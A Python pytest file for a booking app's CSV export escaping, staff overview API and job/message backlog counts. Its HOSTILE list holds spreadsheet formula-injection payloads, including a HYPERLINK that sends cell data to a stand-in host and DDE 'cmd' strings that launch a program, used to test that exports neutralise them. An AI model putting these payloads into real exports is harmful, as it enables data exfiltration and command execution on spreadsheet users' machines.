"""Cells of exports, and the overview over HTTP."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from access_helpers import script_token
from account_helpers import a_scheduled_order
from booking_client import a_body, post_order
from database_helpers import filled
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from whole_orders import a_dispute, a_refund, now

from standby.core.jobs import JobHandler, Postpone, enqueue, run_next_job
from standby.core.models import Job
from standby.core.provider_calls import ProviderDown
from standby.core.roles import Role
from standby.coverage.models import AddressSearch
from standby.documents.services.documents import DOCUMENTS_TRIED_FOR
from standby.messaging.models import Message
from standby.messaging.services import outbox
from standby.messaging.services.outbox import hold_outbox
from standby.payments.models import Payment
from standby.payments.providers.cards.test_mode import TestCards
from standby.reports.rules import CHUNK_ROWS, csv_row, in_chunks
from standby.reports.selectors.what_waits import backlog

HOSTILE = [
    '=HYPERLINK("https://evil.test?"&A1,"x")',
    "+1-281-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0@x",
    "\uff1d1+1",
]
FORMULA = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_be_a_formula_is_text(text: str) -> None:
    [[cell, other]] = read(csv_row([text, "x"]))

    assert (cell, other) == (f"'{text}", "x")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2))
def test_whatever_is_written_is_read_again_and_no_cell_begins_a_formula(texts: list[str]) -> None:
    [cells] = read(csv_row(texts))

    assert [
        cell.removeprefix("'") if cell != text else cell
        for cell, text in zip(cells, texts, strict=True)
    ] == texts
    assert not [cell for cell in cells if cell.lstrip()[:1] in FORMULA or cell[:1] in FORMULA]


def test_numbers_stay_numbers_and_lines_end_as_rfc_4180_has_it() -> None:
    row = csv_row([-100, None, True, False, 'a "b", c'])

    assert row == '-100,,yes,no,"a ""b"", c"\r\n'


def test_an_instant_is_written_as_clocks_in_the_market_show_it() -> None:
    [cells] = read(csv_row([datetime(2025, 11, 2, 3, tzinfo=UTC), date(2025, 11, 2)]))

    assert cells == ["2025-11-01 22:00", "2025-11-02"]


def test_rows_are_read_a_few_at_a_time() -> None:
    rows = iter(range(CHUNK_ROWS + 1))

    assert [len(chunk) for chunk in in_chunks(rows)] == [CHUNK_ROWS, 1]


OVERVIEW = "/api/staff/overview"


def ask(browser: Client, path: str = "", **query: Any) -> Any:
    headers = {"Authorization": f"Bearer {script_token(Role.MANAGER)}"}
    return browser.get(f"{OVERVIEW}{path}", query_params=query, headers=headers)


@pytest.mark.usefixtures("shop", "own_folder")
def test_every_figure_is_told_at_once(browser: Client) -> None:
    visitor = Client()
    post_order(visitor, a_body(visitor))
    search = {"zip_code": "78701", "coverage_status": "not_covered", "is_first_check": True}
    filled(AddressSearch, created_at=now(), **search)

    told = ask(browser).json()

    by_stage = {stage["key"]: stage["count"] for stage in told["funnel"]}
    assert next(iter(by_stage)) == "checked"
    assert (by_stage["checked"], by_stage["reserved"], by_stage["fee_paid"]) == (1, 1, 0)
    assert told["funnel"][0]["of_before_percent"] is None
    assert told["funnel"][5]["of_before_percent"] == 100.0
    assert told["revenue"]["received_cents"] == told["failed_messages"] == 0
    assert [one["zip_code"] for one in told["demand"]] == ["78701"]
    assert told["lead_times"]["visits"] == {"count": 0, "median_days": None, "p90_days": None}
    assert told["coming_today"] == {"morning": 0, "afternoon": 0, "held": 0}
    assert told["outbox_held_since"] is None
    hold_outbox(restored_from=now(), now=now())
    assert ask(browser).json()["outbox_held_since"].startswith(f"{now():%Y-%m-%d}")


@pytest.mark.usefixtures("shop", "own_folder")
def test_a_period_is_asked_by_its_days(browser: Client) -> None:
    AddressSearch.objects.create(address="x", is_first_check=True, created_at=now())
    long_ago = {"from": "2025-01-01", "to": "2025-01-31"}

    assert ask(browser, **long_ago).json()["funnel"][0]["count"] == 0
    assert ask(browser, "/checked", **long_ago).json()["count"] == 0
    assert ask(browser, "/checked").json()["count"] == 1
    for wrong in ({"from": "2025-02-01", "to": "2025-01-31"}, {"from": "2020-01-01"}):
        answer = ask(browser, **wrong)
        assert (answer.status_code, answer.json()["code"]) == (422, "period_wrong")


@pytest.mark.usefixtures("shop", "own_folder")
def test_rows_link_to_their_order_and_come_in_pages(browser: Client) -> None:
    visitor = Client()
    order_id = post_order(visitor, a_body(visitor)).json()["orderId"]

    told = ask(browser, "/reserved").json()

    assert (told["count"], told["page"], told["pages"]) == (1, 1, 1)
    assert told["rows"][0]["order_id"] == order_id
    assert ask(browser, "/reserved", page=2).json()["rows"] == []


NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)


def a_message(key: str, *, due_ago: timedelta) -> Message:
    message = Message(
        kind="date_held",
        channel="email",
        recipient="a@example.org",
        subject="x",
        text="x",
        dedupe_key=key,
    )
    outbox.queue_messages(message, now=NOW - due_ago)
    return Message.objects.get(dedupe_key=f"{key}:email")


def a_dead_message(
    key: str = "dead", *, due_ago: timedelta = timedelta(0), refused_at: datetime = NOW
) -> Message:
    message = a_message(key, due_ago=due_ago)
    outbox.mark_dead(message.dedupe_key, reason="550", attempts=1, now=refused_at)
    Job.objects.filter(key=message.dedupe_key).update(dead_at=refused_at)
    return message


def tried(*, raises: Exception, now: datetime = NOW) -> None:
    def run(_job: Job, _now: datetime) -> None:
        raise raises

    assert run_next_job(JobHandler(kind=Job.Kind.EMAIL, run=run, longest_pause_s=180), now=now)


def oldest(*, now: datetime = NOW) -> tuple[float, float]:
    found = backlog(now=now)
    return found["messages_waiting"], found["messages_oldest_seconds"]


@pytest.mark.django_db
def test_nothing_waits_in_an_empty_house_until_its_outbox_is_held() -> None:
    assert set(backlog(now=NOW).values()) == {0}

    hold_outbox(restored_from=NOW, now=NOW)

    assert backlog(now=NOW)["outbox_held"] == 1


@pytest.mark.django_db
@pytest.mark.usefixtures("shop")
def test_refunds_that_need_a_person_and_open_disputes_are_counted(cards: TestCards) -> None:
    fee = Payment.objects.get(order=a_scheduled_order(cards))
    for status in ("requested", "sent", "failed", "returned", "replaced"):
        a_refund(fee, status=status, sent_at=NOW)
    a_dispute(fee, status="needs_response")
    a_dispute(fee, status="lost", closed_at=NOW)

    found = backlog(now=NOW)

    assert (found["refunds_failed"], found["disputes_open"]) == (2, 1)


@pytest.mark.django_db
def test_what_waits_is_counted_and_the_oldest_tells_its_age() -> None:
    a_message("first", due_ago=timedelta(minutes=5))
    a_message("second", due_ago=timedelta(minutes=1))
    a_dead_message(due_ago=timedelta(days=1))
    enqueue((Job.Kind.PAYMENT_EVENT, "test:evt_1"), due_at=NOW - timedelta(seconds=90))

    found = backlog(now=NOW)

    assert (found["messages_waiting"], found["messages_oldest_seconds"]) == (2, 300)
    assert (found["messages_dead"], found["card_events_waiting"]) == (1, 1)
    assert found["card_events_oldest_seconds"] == 90


@pytest.mark.django_db
def test_a_dead_message_counts_for_two_weeks() -> None:
    a_dead_message()

    days = [backlog(now=NOW + timedelta(days=n))["messages_dead"] for n in (0, 13, 15)]

    assert days == [1, 1, 0]


@pytest.mark.django_db
def test_a_failed_try_makes_a_message_no_younger() -> None:
    a_message("one", due_ago=timedelta(0))

    for minute in (0, 4, 9):
        now = NOW + timedelta(minutes=minute)
        tried(raises=ProviderDown("421"), now=now)

    assert oldest(now=NOW + timedelta(minutes=10)) == (1, 600)


@pytest.mark.django_db
def test_a_text_that_waits_for_the_morning_is_not_late_before_it() -> None:
    a_message("one", due_ago=timedelta(0))
    morning = NOW + timedelta(hours=8)

    tried(raises=Postpone(morning))

    assert oldest(now=morning - timedelta(seconds=1)) == (0, 0)
    assert oldest(now=morning + timedelta(minutes=5)) == (1, 300)


@pytest.mark.django_db
def test_a_dead_message_that_is_sent_again_counts_from_then_on() -> None:
    message = a_dead_message(due_ago=timedelta(days=2), refused_at=NOW - timedelta(days=1))
    other = a_dead_message("other")

    outbox.replay_message(message, now=NOW)

    other.refresh_from_db()
    assert other.status == Message.Status.DEAD

    assert oldest(now=NOW + timedelta(seconds=30)) == (1, 30)


@pytest.mark.django_db
def test_a_clock_that_was_set_back_makes_nothing_younger_than_now() -> None:
    enqueue((Job.Kind.PAYMENT_EVENT, "test:evt_1"), due_at=NOW + timedelta(hours=1))

    assert backlog(now=NOW)["card_events_oldest_seconds"] == 0


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("kind", "name", "counts_for"),
    [
        (Job.Kind.PHOTO, "photos", timedelta(days=1)),
        (Job.Kind.DOCUMENT, "documents", DOCUMENTS_TRIED_FOR),
    ],
    ids=["photos", "documents"],
)
def test_what_waits_tells_its_age_and_counts_for_a_while_once_it_is_given_up(
    kind: Job.Kind, name: str, counts_for: timedelta
) -> None:
    soon = NOW + timedelta(minutes=1)
    enqueue((kind, "k"), due_at=NOW)

    waiting = backlog(now=soon)
    Job.objects.update(dead_at=soon)
    given_up = backlog(now=soon)
    long_after = backlog(now=soon + counts_for + timedelta(seconds=1))

    assert (waiting[f"{name}_waiting"], waiting[f"{name}_oldest_seconds"]) == (1, 60)
    assert (given_up[f"{name}_waiting"], given_up[f"{name}_given_up"]) == (0, 1)
    assert long_after[f"{name}_given_up"] == 0
